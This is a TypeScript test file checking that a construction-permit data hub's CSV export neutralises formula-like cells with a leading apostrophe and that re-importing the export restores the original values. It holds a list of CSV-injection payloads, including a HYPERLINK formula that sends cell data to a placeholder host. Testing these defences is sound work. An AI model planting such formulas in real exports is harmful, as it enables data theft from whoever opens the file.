import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { withTestHub } from './support/hub.js';
import { outgoingRecord, uniqueId } from './support/records.js';

/**
 * CSV injection (issue 11 item 5): a free-text cell a spreadsheet would run as a formula leaves a CSV
 * export behind a `'`, and CSV publishing takes the `'` off again, so that an export publishes back as it is.
 */

const hub = withTestHub();
let housing: string;

// biome-ignore lint/suspicious/noExplicitAny: parsed JSON of the hub's answers, checked by the assertions
type Json = any;

beforeAll(async () => {
  housing = await hub.key('HOUSING');
});

const DANGEROUS = [
  '=HYPERLINK("http://example.test/?"&A1,"点击查看")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "'plain",
  "''",
  '＝1+1',
];

async function call(path: string, init: RequestInit = {}) {
  const response = await fetch(`${hub.url}${path}`, {
    ...init,
    headers: { authorization: `Bearer ${housing}`, ...(init.headers as Record<string, string>) },
  });
  const text = await response.text();
  expect(response.status, text).toBe(200);
  return text;
}

async function publish(batchKey: string, type: string, body: string): Promise<Json> {
  return JSON.parse(
    await call(`/datasets/constructionPermit/batches/${batchKey}`, {
      method: 'POST',
      headers: { 'content-type': type },
      body,
    }),
  );
}

describe('CSV exports and formulas', () => {
  it('neutralise formula-like text cells, and publish back unchanged', async () => {
    const id = uniqueId();
    const records: Record<string, unknown>[] = DANGEROUS.map((text, n) => {
      const values = outgoingRecord('constructionPermit', `${id}-${n}`, {
        projectName: text,
        address: `${text} ${id}`,
        builder: text,
        contactPerson: text,
        floorAreaM2: 12.5,
      });
      return { ...values, sourceRecordId: `${text}|${id}-${n}` };
    });
    // A key value may be formula-like too.
    records.push({ ...records[0], permitNo: `=${id}`, sourceRecordId: `=src-${id}` });
    const first = await publish(
      `csv1-${id}`,
      'application/x-ndjson',
      records.map((r) => JSON.stringify(r)).join('\n'),
    );
    expect(first).toMatchObject({ status: 'APPLIED', inserted: records.length });

    const csv = await call('/datasets/constructionPermit/export?format=csv');
    const [header, ...rows] = parse(csv, { relax_column_count: false }) as string[][];
    const mine = rows.filter((row) => row[header.indexOf('address')].includes(id));
    expect(mine).toHaveLength(records.length);
    for (const row of mine) {
      for (const [column, cell] of header.map((name, i) => [name, row[i]] as const)) {
        // No cell starts as a formula; a free-text one that would, or that starts with ', starts with '.
        expect(cell, column).not.toMatch(/^[=+\-@\t\r＝]/);
      }
      expect(row[header.indexOf('floorAreaM2')]).toBe('12.5');
    }
    const cells = mine.map((row) => row[header.indexOf('projectName')]);
    expect(new Set(cells)).toEqual(new Set(DANGEROUS.map((text) => `'${text}`)));
    expect(mine.map((row) => row[header.indexOf('permitNo')])).toContain(`'=${id}`);
    expect(mine.map((row) => row.at(-1))).toContain(`'=src-${id}`);

    // The export's rows, published back as CSV: nothing changes.
    const back = `${[header, ...mine].map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n')}\r\n`;
    const again = await publish(`csv2-${id}`, 'text/csv; charset=utf-8', back);
    expect(again).toMatchObject({
      status: 'APPLIED',
      received: records.length,
      inserted: 0,
      updated: 0,
      unchanged: records.length,
    });
    const stored = await hub.database.sql<
      { projectName: string; sourceRecordId: string; permitNo: string }[]
    >`
      select project_name as "projectName", source_record_id as "sourceRecordId", permit_no as "permitNo"
      from construction_permit where address like ${`%${id}`} order by permit_no`;
    expect(stored.map((r) => r.projectName).sort()).toEqual([...DANGEROUS, DANGEROUS[0]].sort());
    expect(stored.map((r) => r.sourceRecordId)).toContain(`=src-${id}`);
    expect(stored.map((r) => r.permitNo)).toContain(`=${id}`);
  });

  it("takes one leading ' off free-text cells of any CSV published, and no other cell", async () => {
    const id = uniqueId();
    const values = outgoingRecord('constructionPermit', id);
    const header = ['permitNo', 'projectName', 'district', 'issuedOn', 'sourceRecordId'];
    const csv = `${header.join(',')}\n'${values.permitNo},''quoted,110115,'2024-05-01,'src-${id}\n`;
    const result = await publish(`csv3-${id}`, 'text/csv', csv);
    // The date keeps its ' and is no date.
    expect(result).toMatchObject({ status: 'REJECTED', rejections: [{ line: 2, field: 'issuedOn' }] });
    const fixed = `${header.join(',')}\n'${values.permitNo},''quoted,110115,2024-05-01,'src-${id}\n`;
    expect(await publish(`csv4-${id}`, 'text/csv', fixed)).toMatchObject({ status: 'APPLIED', inserted: 1 });
    const [row] = await hub.database.sql`
      select project_name as "projectName", source_record_id as "sourceRecordId" from construction_permit
      where permit_no = ${values.permitNo}`;
    expect(row).toEqual({ projectName: "'quoted", sourceRecordId: `src-${id}` });
  });
});
